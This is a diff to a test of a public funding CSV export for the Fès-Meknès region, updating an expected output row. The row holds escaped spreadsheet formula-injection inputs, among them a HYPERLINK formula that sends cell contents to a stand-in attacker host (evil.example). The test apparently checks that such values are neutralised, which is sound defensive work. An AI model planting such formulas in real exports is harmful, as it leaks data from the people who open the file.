@@ -112,7 +112,7 @@ describe('the public funding export', () => {
       'rollout-FM-2026,2026,FM,Fès-Meknès,فاس-مكناس,assoc-fm-sefrou-1,' +
         `"'=HYPERLINK(""https://evil.example/?""&A1,""Voir"")","'@SUM(1+1)",` +
         'Sefrou,grant-fm-1,decision,,2026-02-02T06:00:00.000Z,3000000,2000000,30000.00,20000.00,2,1,' +
-        'cofunder-ministry:3000000',
+        'cofunder-ministry:3000000,active,0,0.00',
     );
   });
 
